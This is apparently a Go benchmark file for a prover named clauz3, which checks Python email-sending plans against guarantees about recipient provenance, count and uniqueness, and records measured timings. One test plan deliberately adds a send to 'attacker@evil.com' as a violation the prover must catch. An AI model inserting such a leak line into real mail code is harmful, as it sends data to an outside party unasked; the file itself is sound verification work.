package benchmarks

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/clauz3/clauz3/ir"
	"github.com/clauz3/clauz3/prover"
)

// tablePlans are the loop plans of issue 17's table that scalePlans does
// not cover, over the seed's shapes (slide 8): a query of users whose
// result ensures len(result) <= N and sends one email per row. Each plan
// says the verdict Prove must reach; a refusal fails the benchmark.
var tablePlans = []struct {
	name     string
	violated bool
	src      string
	bank     bool // over accumLayer's bills rather than tableLayer's users
}{
	// provenance: every recipient is a users row's email.
	{"provenance", false, `import clauz3
from tools.db.trusted.effects import db_query
from tools.db.trusted.schemas import UserRow
from tools.email.trusted import contracts as emails
from tools.email.trusted.effects import send_email


@clauz3.guarantee(emails.addresses_from(UserRow, "email"))
def main() -> None:
    for row in db_query("users"):
        send_email(row.email, "Newsletter is out!")
`, false},
	// provenance_violated: one literal address after the loop.
	{"provenance_violated", true, `import clauz3
from tools.db.trusted.effects import db_query
from tools.db.trusted.schemas import UserRow
from tools.email.trusted import contracts as emails
from tools.email.trusted.effects import send_email


@clauz3.guarantee(emails.addresses_from(UserRow, "email"))
def main() -> None:
    for row in db_query("users"):
        send_email(row.email, "Newsletter is out!")
    send_email("attacker@evil.com", "done")
`, false},
	// newsletter: provenance, a count at most N and unique recipients
	// (UserRow declares email unique).
	{"newsletter", false, `import clauz3
from tools.db.trusted.effects import db_query
from tools.db.trusted.schemas import UserRow
from tools.email.trusted import contracts as emails
from tools.email.trusted.effects import send_email


@clauz3.guarantee(emails.addresses_from(UserRow, "email"))
@clauz3.guarantee(emails.count_at_most(%d))
@clauz3.guarantee(emails.unique_recipients())
def main() -> None:
    for row in db_query("users", where={"consented": True}):
        send_email(row.email, "Newsletter is out!")
`, false},
	// distinct_violated: unique recipients over rows whose email is not
	// declared unique (MemberRow has no __unique__).
	{"distinct_violated", true, `import clauz3
from tools.db.trusted.effects import db_members
from tools.email.trusted import contracts as emails
from tools.email.trusted.effects import send_email


@clauz3.guarantee(emails.unique_recipients())
def main() -> None:
    for row in db_members("members"):
        send_email(row.email, "Newsletter is out!")
`, false},
	// budget: the bank plan's running total under a cap
	// (accumPlans["budget"]); budget_violated promises one cent less.
	{"budget", false, accumPlans["budget"], true},
	{"budget_violated", true, accumPlans["budget_violated"], true},
}

// sizePlans are the table's rows that are not loops over N rows: 5,000
// send_email calls with two preconditions each, which must be proved, and
// a 200,000-element list literal on one line, which the encoding budget
// must refuse at its position (the front end reads it first), and issue
// 12's two other plans the budget must refuse quickly. A refusal is told
// by its code (ProverLimit) in `clauz3 prove --json`; want names which
// one, as diagtest.Want does.
var sizePlans = []struct {
	name, src, want string
	line, col       int // the refusal's position when the test pins it
}{
	{"calls5000", sizeCalls(5000), "", 0, 0},
	{"literal200k", "import clauz3\nfrom tools.email.trusted.effects import send_email\n\n\ndef main() -> None:\n    xs = [" + sizeList(200000) + "]\n    send_email(\"bob@example.com\", \"hi\")\n",
		"encoding budget exceeded: elements of one list display: 200000", 6, 10},
	// Issue 12's other two hang plans, refused by the encoding budget
	// (corpus TestEncodingBudget checks the refusals; this times them).
	{"nested_ranges", "import clauz3\nfrom tools.email.trusted.effects import send_email\n\n\ndef main() -> None:\n    n = 0\n    for i in range(100):\n        for j in range(100):\n            for k in range(100):\n                n = n + 1\n    send_email(\"bob@example.com\", \"hi\")\n",
		"encoding budget exceeded: unrolled loop iterations in all", 0, 0},
	{"str_doubling", "import clauz3\nfrom tools.email.trusted.effects import send_email\n\n\ndef main() -> None:\n    s = \"ab\"\n" + strings.Repeat("    s = s + s\n", 28) + "    send_email(\"bob@example.com\", s)\n",
		"encoding budget exceeded: code points of one str computed from literals", 0, 0},
}

func sizeCalls(n int) string {
	var b strings.Builder
	b.WriteString("import clauz3\nfrom tools.email.trusted.effects import send_email\n\n\ndef main() -> None:\n")
	for i := range n {
		fmt.Fprintf(&b, "    send_email(\"user%d@example.com\", \"hello\")\n", i)
	}
	return b.String()
}

func sizeList(n int) string {
	parts := make([]string, n)
	for i := range parts {
		parts[i] = fmt.Sprint(i % 10)
	}
	return strings.Join(parts, ", ")
}

// tableLayer writes a db layer whose queries ensure len(result) <= n and
// an email layer like the bundled ones.
func tableLayer(b *testing.B, n int) string {
	dir := b.TempDir()
	files := map[string]string{
		"tools/__init__.py":               "",
		"tools/db/__init__.py":            "",
		"tools/db/trusted/__init__.py":    "",
		"tools/email/__init__.py":         "",
		"tools/email/trusted/__init__.py": "",
		"tools/db/trusted/schemas.py": `import clauz3


class UserRow(clauz3.Row):
    __unique__ = ("id", "email")
    id: int
    name: str
    email: str
    consented: bool


class MemberRow(clauz3.Row):
    id: int
    email: str
`,
		"tools/db/trusted/effects.py": fmt.Sprintf(`import deal

from tools.db.trusted.schemas import UserRow, MemberRow


@deal.pre(lambda table: table == "users")
@deal.post(lambda result: len(result) <= %[1]d)
@deal.post(lambda result: all("@" in r.email and "\n" not in r.email and "\r" not in r.email for r in result))
@deal.has("db_read")
def db_query(table: str, where: dict[str, object] | None = None) -> list[UserRow]: ...


@deal.pre(lambda table: table == "members")
@deal.post(lambda result: len(result) <= %[1]d)
@deal.post(lambda result: all("@" in r.email and "\n" not in r.email and "\r" not in r.email for r in result))
@deal.has("db_read")
def db_members(table: str) -> list[MemberRow]: ...
`, n),
		"tools/email/trusted/effects.py": `import deal


@deal.pre(lambda addr, msg: "@" in addr)
@deal.pre(lambda addr, msg: "\n" not in addr and "\r" not in addr)
@deal.has("email")
def send_email(addr: str, msg: str) -> None: ...
`,
		"tools/email/trusted/contracts.py": `from clauz3.spec import ContractSpec, contract, effect

Email = effect("email")


@contract
def unique_recipients() -> ContractSpec:
    return Email.distinct(lambda e: e.addr)


@contract
def count_at_most(n: int) -> ContractSpec:
    return Email.count() <= n


@contract
def addresses_from(schema: type, field: str) -> ContractSpec:
    column = getattr(schema, field)
    return Email.all(lambda e: e.addr == column)
`,
	}
	for name, text := range files {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			b.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			b.Fatal(err)
		}
	}
	return dir
}

// Measured with -benchtime 1x on the shared 2-core machine at load
// average 25-31 (CPU times inflate under such load; the floor, `clauz3
// help`, took 10-17 ms in the same runs), at N=1000: provenance 1.49 s
// CPU and 118 MB (x99 the floor), provenance_violated 1.09 s and 99 MB,
// the newsletter 3.65 s and 146 MB, distinct_violated 1.61 s and 111 MB
// (failed with its counterexample and hint; refused on the wall clock
// before), budget 2.89 s and 126 MB (37 s before), budget_violated
// 1.07 s and 107 MB (refused without a counterexample before);
// calls5000 1.33 s and 101 MB, literal200k 1.23 s and 137 MB. Earlier in
// the same session, before the changes to the loop encodings, at the
// same load: provenance 2.40 s, provenance_violated 2.67 s, the
// newsletter 4.12 s. Under load (TABLE_COPIES=2, -benchtime 10x, load
// average 11-21 besides), every one of the 20 copies of each reached its
// verdict: provenance_violated (1.34 s median CPU), distinct_violated
// (1.27 s), budget (3.04 s) and budget_violated (1.44 s) at N=1000.
//
// After the per-iteration checks alike were answered once
// (prover/symmetry.go), measured beside the commit before it in the same
// hour (-benchtime 3x, load average 18 at the start of each, floor
// 13-17 ms), at N=1000, before -> after: provenance 1.16 -> 1.03 s CPU,
// provenance_violated 1.06 -> 0.63 s, the newsletter 2.51 -> 2.23 s,
// distinct_violated 0.81 -> 0.69 s, budget 2.09 -> 1.24 s (122 MB),
// budget_violated 0.88 -> 0.92 s; every row under 140 MB. With
// TABLE_COPIES=2 and -benchtime 10x (load average 13-18), all 20 copies
// of each of these six rows reached their verdict; median CPU
// provenance 0.95 s, provenance_violated 0.76 s, the newsletter 1.84 s,
// distinct_violated 0.64 s, budget 1.09 s, budget_violated 0.81 s.
// The whole table once (-benchtime 1x, load average 12-15, floor 14 ms):
// at N=1000 provenance 0.97 s, provenance_violated 0.56 s, the
// newsletter 1.71 s, distinct_violated 0.53 s, budget 0.87 s,
// budget_violated 0.64 s; calls5000 0.74 s, literal200k 0.80 s (141 MB,
// the most of any row); budget at N=100 proved in 0.12 s.
//
// On the idle machine (load average 0.9-1.8, floor 7.7 ms), 2026-12-02,
// -benchtime 1x, at N=1000: provenance 0.54 s CPU, provenance_violated
// 0.41 s, the newsletter 1.05 s (132 MB), distinct_violated 0.40 s,
// budget 0.66 s, budget_violated 0.52 s; calls5000 0.61 s, literal200k
// 0.76 s (142 MB, the most of any row). With TABLE_COPIES=2 and
// -benchtime 10x, all 20 copies of each of the six N=1000 rows reached
// their verdict, median CPU within 10 % of those.
//
// BenchmarkProveTable runs `clauz3 prove` as a whole process, as issue
// 17's table measures it, on the provenance, newsletter and distinct
// plans at N = 10, 100 and 1000, beside `clauz3 help` (the process floor)
// in the same run. It reports the median CPU time and peak resident
// memory of the process (cpu-ms, maxrss-MB) and the CPU time as a ratio
// to the floor's (x-floor), and logs the load average before and after.
// Each run must reach the plan's verdict: proved, or a failed guarantee
// with a counterexample; a refusal (a timeout, say) fails the benchmark
// and prints the output. The running budget (and its broken variant) is
// measured the same way over the bank layer, and sizePlans once each.
// TABLE_COPIES=2 runs two copies of every process at once, each checked
// for its verdict: with -benchtime 10x, the same verdict in 10 of 10 runs
// under load (cpu-ms is then the median over every copy).
func BenchmarkProveTable(b *testing.B) {
	bin := clauz3Binary(b)
	b.Logf("load average before: %s", loadAverage())
	var floor time.Duration
	b.Run("floor", func(b *testing.B) {
		var cpus []time.Duration
		for range b.N {
			_, cpu, _ := runProve(b, bin, "help")
			cpus = append(cpus, cpu)
		}
		floor = median(cpus)
		b.ReportMetric(ms(floor), "cpu-ms")
	})
	copies := 1
	if env := os.Getenv("TABLE_COPIES"); env != "" {
		if _, err := fmt.Sscan(env, &copies); err != nil || copies < 1 {
			b.Fatalf("TABLE_COPIES=%q: want a positive number", env)
		}
	}
	for _, p := range tablePlans {
		for _, n := range []int{10, 100, 1000} {
			var root string
			if p.bank {
				root = accumLayer(b, n)
			} else {
				root = tableLayer(b, n)
			}
			src := p.src
			if strings.Contains(src, "%d") {
				src = fmt.Sprintf(src, n)
			}
			plan := filepath.Join(root, p.name+".py")
			if err := os.WriteFile(plan, []byte(src), 0o644); err != nil {
				b.Fatal(err)
			}
			b.Run(fmt.Sprintf("%s/N=%d", p.name, n), func(b *testing.B) {
				var cpus []time.Duration
				var rss []int64
				for range b.N {
					for _, r := range runCopies(b, copies, bin, "prove", "--json", "--import-root", root, plan) {
						if msg := tableVerdict(r.out, p.violated); msg != "" {
							b.Fatalf("%s\n%.2000s\n%.2000s", msg, r.out, r.stderr)
						}
						cpus = append(cpus, r.cpu)
						rss = append(rss, r.maxrss)
					}
				}
				sort.Slice(rss, func(i, j int) bool { return rss[i] < rss[j] })
				med := median(cpus)
				b.ReportMetric(ms(med), "cpu-ms")
				b.ReportMetric(float64(rss[len(rss)/2])/1024, "maxrss-MB")
				if floor > 0 {
					b.ReportMetric(ratio(med, floor), "x-floor")
				}
			})
		}
	}
	sizeRoot := tableLayer(b, 1)
	for _, p := range sizePlans {
		plan := filepath.Join(sizeRoot, p.name+".py")
		if err := os.WriteFile(plan, []byte(p.src), 0o644); err != nil {
			b.Fatal(err)
		}
		b.Run(p.name, func(b *testing.B) {
			var cpus []time.Duration
			var rss []int64
			for range b.N {
				for _, r := range runCopies(b, copies, bin, "prove", "--json", "--import-root", sizeRoot, plan) {
					msg := tableVerdict(r.out, false)
					if p.want != "" {
						msg = budgetRefusal(r.out, p.want, p.line, p.col)
					}
					if msg != "" {
						b.Fatalf("%s\n%.2000s\n%.2000s", msg, r.out, r.stderr)
					}
					cpus = append(cpus, r.cpu)
					rss = append(rss, r.maxrss)
				}
			}
			sort.Slice(rss, func(i, j int) bool { return rss[i] < rss[j] })
			med := median(cpus)
			b.ReportMetric(ms(med), "cpu-ms")
			b.ReportMetric(float64(rss[len(rss)/2])/1024, "maxrss-MB")
			if floor > 0 {
				b.ReportMetric(ratio(med, floor), "x-floor")
			}
		})
	}
	b.Logf("load average after: %s", loadAverage())
}

// proveRun is one process's standard output, standard error, CPU time
// and peak resident set (KiB).
type proveRun struct {
	out, stderr string
	cpu         time.Duration
	maxrss      int64
}

// runCopies runs n copies of bin with args at once and returns each
// one's run; a copy that could not run fails the benchmark.
func runCopies(b *testing.B, n int, bin string, args ...string) []proveRun {
	b.Helper()
	runs := make([]proveRun, n)
	var wg sync.WaitGroup
	for i := range runs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			runs[i].out, runs[i].stderr, runs[i].cpu, runs[i].maxrss = startProve(bin, args...)
		}()
	}
	wg.Wait()
	for _, r := range runs {
		if r.cpu < 0 {
			b.Fatalf("%s: %s", bin, r.out)
		}
	}
	return runs
}

// startProve is runProve for a goroutine, with standard output and error
// apart (the JSON result is alone on standard output): a process that
// could not run has a negative CPU time and the error as its output.
func startProve(bin string, args ...string) (string, string, time.Duration, int64) {
	cmd := exec.Command(bin, args...)
	var out, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &stderr
	err := cmd.Run()
	if cmd.ProcessState == nil {
		return fmt.Sprint(err), "", -1, 0
	}
	var maxrss int64
	if ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok {
		maxrss = ru.Maxrss
	}
	return out.String(), stderr.String(), cmd.ProcessState.UserTime() + cmd.ProcessState.SystemTime(), maxrss
}

// runProve runs bin with args and returns its combined output, its CPU
// time and its peak resident set in KiB. A failed guarantee exits
// non-zero, so the exit status is left to tableVerdict; only a process
// that could not run fails here.
func runProve(b *testing.B, bin string, args ...string) (string, time.Duration, int64) {
	b.Helper()
	cmd := exec.Command(bin, args...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	if cmd.ProcessState == nil {
		b.Fatalf("%s: %v", bin, err)
	}
	var maxrss int64
	if ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok {
		maxrss = ru.Maxrss
	}
	return out.String(), cmd.ProcessState.UserTime() + cmd.ProcessState.SystemTime(), maxrss
}

// tableVerdict says what is wrong with out, the JSON `clauz3 prove
// --json` printed, for a plan that must be proved (violated false) or
// must fail with a counterexample; "" when it is right. It reads the
// statuses and codes, never the report's words.
func tableVerdict(out string, violated bool) string {
	var res prover.JSON
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		return fmt.Sprintf("no JSON result: %v", err)
	}
	if len(res.Errors) > 0 {
		return "refused: " + res.Errors[0].Code
	}
	failed := false
	for _, o := range res.Obligations {
		switch o.Status {
		case prover.Refused.String():
			return "refused: " + o.Code
		case prover.Failed.String():
			failed = failed || o.Kind == prover.KindGuarantee && o.Counterexample != nil
		}
	}
	switch {
	case !violated && !res.Proved:
		return "not proved"
	case violated && !failed:
		return "no failed guarantee with a counterexample"
	}
	return ""
}

// budgetRefusal says what is wrong with out, the JSON of a plan the
// encoding budget must refuse: the refusal is told by its code
// (ProverLimit), want only says which, and line and col (when not 0)
// pin its position.
func budgetRefusal(out, want string, line, col int) string {
	var res prover.JSON
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		return fmt.Sprintf("no JSON result: %v", err)
	}
	for _, d := range res.Errors {
		if d.Code != ir.ProverLimit.String() || !strings.Contains(d.Message, want) {
			continue
		}
		if line != 0 && !strings.HasSuffix(d.Pos, fmt.Sprintf(".py:%d:%d", line, col)) {
			return fmt.Sprintf("the refusal is at %s, want line %d, column %d", d.Pos, line, col)
		}
		return ""
	}
	return "no ProverLimit refusal " + want
}

// loadAverage is the first line of /proc/loadavg, or why it is missing.
func loadAverage() string {
	data, err := os.ReadFile("/proc/loadavg")
	if err != nil {
		return err.Error()
	}
	return strings.TrimSpace(string(data))
}
